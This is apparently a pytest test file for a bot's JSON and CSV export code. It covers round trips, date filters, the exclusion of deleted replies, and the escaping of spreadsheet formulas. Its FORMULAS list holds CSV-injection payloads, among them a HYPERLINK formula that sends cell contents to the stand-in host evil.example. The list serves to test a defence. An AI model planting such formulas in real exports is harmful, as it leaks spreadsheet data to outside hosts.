"""leadbot export: JSON lines and CSV, round trip, filters, deleted text never exported."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from bot.services.export import COLUMNS, csv_cell, write_csv, write_json
from bot.store import EXPORT_KINDS

AT = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def seed(store):
    post = store.claim_post("C1", "prompt", AT, AT)
    store.mark_posted(post, ts="1763888400.000100", text="When you see…", at=AT)
    store.record_choice(post, "U1", "take", AT + timedelta(minutes=5))
    store.record_choice(post, "U2", "pass", AT + timedelta(days=2))
    store.record_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888500.000200",
                       user="U1", text='I\'ll ask "why" five times, then, commas', at=AT
                       + timedelta(minutes=6), post_id=post)
    store.set_reaction(post_id=post, channel="C1", user="U2", reaction="raised_hands",
                       at=AT + timedelta(days=2, minutes=1), added=True)
    store.record_reflection(user="U2", channel="C1", text="Went to the gemba.\nLearned a lot.",
                            choice="take", behavior="go-to-gemba", shared=True,
                            at=AT + timedelta(days=3))
    [take] = store.takes_without_follow_up("C1", AT)
    store.plan_follow_up(take, AT + timedelta(days=3))
    store.record_sighting(seer="U1", about="U2", text="Asked the quietest person first.",
                          at=AT + timedelta(days=3, hours=1), behavior="respect-for-people",
                          channel="C1", anonymous=True)
    return post


def test_json_lines_have_the_documented_fields(store):
    seed(store)
    out = io.StringIO()
    assert write_json(store, EXPORT_KINDS, None, out) == 8
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["kind"] for r in rows] == ["post", "reply", "choice", "choice", "reaction",
                                         "reflection", "follow_up", "sighting"]
    assert (rows[-2]["user"], rows[-2]["status"], rows[-2]["choice"]) == ("U1", "pending", "take")
    # a sighting: the common fields (user is who saw it; no choice, no ts), then its own
    assert rows[-1] == {"kind": "sighting", "channel": "C1", "user": "U1",
                        "text": "Asked the quietest person first.",
                        "at": "2026-11-26T10:00:00Z", "about": "U2",
                        "theme": "respect-for-people", "anonymous": True, "in_digest": True}
    choice = rows[2]
    assert choice == {"kind": "choice", "channel": "C1", "user": "U1", "choice": "take",
                      "ts": "1763888400.000100", "at": "2026-11-23T09:05:00Z", "current": True}
    assert rows[1]["text"].startswith("I'll ask")
    for row in rows:
        assert row["at"].endswith("Z")
        datetime.fromisoformat(row["at"].replace("Z", "+00:00"))


def test_json_round_trip_equals_the_store(store):
    seed(store)
    out = io.StringIO()
    write_json(store, EXPORT_KINDS, None, out)
    parsed = [json.loads(line) for line in out.getvalue().splitlines()]
    expected = [{k: v for k, v in row.items() if v is not None}
                for kind in EXPORT_KINDS for row in store.export_rows(kind)]
    assert parsed == expected


def test_csv_round_trip_per_kind(store):
    seed(store)
    for kind in EXPORT_KINDS:
        out = io.StringIO()
        count = write_csv(store, kind, None, out)
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        assert len(rows) == count
        assert list(rows[0]) == COLUMNS[kind]
        for got, want in zip(rows, store.export_rows(kind), strict=True):
            for key in COLUMNS[kind]:
                value = want.get(key)
                assert got[key] == ("" if value is None else str(value)), (kind, key)


def test_since_filters(store):
    seed(store)
    out = io.StringIO()
    write_json(store, EXPORT_KINDS, AT + timedelta(days=1), out)
    assert [json.loads(x)["kind"] for x in out.getvalue().splitlines()] == [
        "choice", "reaction", "reflection", "sighting"]


def test_deleted_reply_text_is_never_exported(store):
    seed(store)
    store.delete_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888500.000200",
                       user="U1", at=AT + timedelta(days=1))
    out = io.StringIO()
    write_json(store, ("reply",), None, out)
    assert out.getvalue() == ""


# Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): text starting with
# =, +, -, @, tab, carriage return or line feed gets a leading ', in CSV only.
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", "-2+3",
            "\t=1+1", "\r=1+1", "\n=1+1", "-2"]


@pytest.mark.parametrize(("value", "cell"), [
    *[(text, "'" + text) for text in FORMULAS],
    ("Went to the gemba = learned", "Went to the gemba = learned"),  # only the first character
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    (None, ""),
    (-2, -2),  # a number from the database stays a number a spreadsheet can add up
    (3.5, 3.5),
    (True, True),
])
def test_csv_cell_neutralises_formulas(value, cell):
    assert csv_cell(value) == cell


def test_csv_export_neutralises_formulas_and_json_keeps_the_text(run_cli, tmp_path):
    from bot.store import Store

    store = Store.open(tmp_path / "cli.db")
    post = seed(store)
    for n, text in enumerate(FORMULAS):
        store.record_reply(channel="C1", thread_ts="1763888400.000100", ts=f"1763888600.{n:06}",
                           user="U3", text=text, at=AT + timedelta(hours=n), post_id=post)
    store.record_reflection(user="U3", channel="C1", text="=1+1", choice="take",
                            behavior="go-to-gemba", shared=True, at=AT + timedelta(days=4))
    store.close()

    store = Store.open(tmp_path / "cli.db")
    store.record_reply(channel="C1", thread_ts="1763888400.000100", ts="1763888700.000001",
                       user="U4", text="take it\r=1+1", at=AT, post_id=post)
    store.close()

    result = run_cli("export", "--format", "csv", "--kind", "reply")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline="")))
    assert [row["text"] for row in rows if row["user"] == "U3"] == ["'" + t for t in FORMULAS]
    # a carriage return inside text is quoted, so no row can begin after it (RFC 4180)
    assert [row["text"] for row in rows if row["user"] == "U4"] == ["take it\r=1+1"]
    assert b'"take it\r=1+1"' in result.stdout_bytes
    for row in csv.reader(io.StringIO(result.stdout_bytes.decode(), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)

    result = run_cli("export", "--format", "csv", "--output", str(tmp_path / "out"))
    assert result.exit_code == 0
    with (tmp_path / "out" / "reflections.csv").open(newline="") as handle:
        assert [row["text"] for row in csv.DictReader(handle)][-1] == "'=1+1"

    result = run_cli("export", "--format", "json", "--kind", "reply")
    texts = [row["text"] for row in map(json.loads, result.output.splitlines())
             if row["user"] == "U3"]
    assert texts == FORMULAS
